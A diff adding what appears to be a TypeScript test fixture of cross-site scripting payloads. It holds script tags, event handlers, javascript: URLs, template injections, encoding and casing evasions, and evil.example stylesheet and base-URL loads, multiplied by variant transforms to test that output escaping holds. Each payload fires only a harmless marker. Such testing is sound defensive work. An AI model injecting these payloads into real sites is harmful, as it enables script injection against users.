@@ -1,0 +1,66 @@
+/** Texts that would run if one of them were ever taken for markup. Each calls `ran`, which a browser can be asked for. */
+const call = 'window.top.ran=1';
+
+const written = [
+  `<script>${call}</script>`,
+  `"><script>${call}</script>`,
+  `'><script>${call}</script>`,
+  `</script><script>${call}</script>`,
+  `</textarea><script>${call}</script>`,
+  `</title><script>${call}</script>`,
+  `</style><script>${call}</script>`,
+  `--><script>${call}</script>`,
+  `]]><script>${call}</script>`,
+  `<img src=x onerror=${call}>`,
+  `"><img src=x onerror=${call}>`,
+  `<svg onload=${call}>`,
+  `<svg/onload=${call}>`,
+  `<svg><animate onbegin=${call} attributeName=x dur=1s>`,
+  `<body onload=${call}>`,
+  `<iframe srcdoc="<script>${call}</script>">`,
+  `<iframe src="javascript:${call}">`,
+  `<object data="javascript:${call}">`,
+  `<embed src="javascript:${call}">`,
+  `<a href="javascript:${call}">đây</a>`,
+  `<details open ontoggle=${call}>`,
+  `<input autofocus onfocus=${call}>`,
+  `<select autofocus onfocus=${call}>`,
+  `<video><source onerror=${call}>`,
+  `<marquee onstart=${call}>`,
+  `<math><mtext></p><script>${call}</script>`,
+  `<base href="//evil.example/">`,
+  `<meta http-equiv="refresh" content="0;url=javascript:${call}">`,
+  `<link rel="stylesheet" href="//evil.example/a.css">`,
+  `<style>@import '//evil.example/a.css';</style>`,
+  `" autofocus onfocus=${call} x="`,
+  `' autofocus onfocus=${call} x='`,
+  `" onmouseover=${call} "`,
+  `\` onfocus=${call} autofocus \``,
+  `javascript:${call}`,
+  `\${${call}}`,
+  `{{constructor.constructor('${call}')()}}`,
+  `<%= ${call} %>`,
+  `&lt;script&gt;${call}&lt;/script&gt;`,
+  `&#60;script&#62;${call}&#60;/script&#62;`,
+  `<scr<script>ipt>${call}</scr</script>ipt>`,
+  `<SCRIPT>${call}</SCRIPT>`,
+  `<script\n>${call}</script\n>`,
+  `<ſcript>${call}</ſcript>`,
+  `＜script＞${call}＜/script＞`,
+  `<p style="background:url(javascript:${call})">`,
+  `<form action="javascript:${call}"><button autofocus>`,
+  `<button formaction="javascript:${call}">`,
+  `<template><script>${call}</script></template>`,
+  `<noscript><p title="</noscript><script>${call}</script>">`,
+];
+
+/** Variants of each, so that no one way of escaping passes by luck. */
+const bend: readonly ((text: string) => string)[] = [
+  (text) => text,
+  (text) => `Nguyễn ${text} Lan`,
+  (text) => text.replaceAll('<', '\u0000<'),
+  (text) => text.toUpperCase().replaceAll(call.toUpperCase(), call),
+];
+
+/** Two hundred texts. */
+export const payloads: readonly string[] = bend.flatMap((change) => written.map(change));
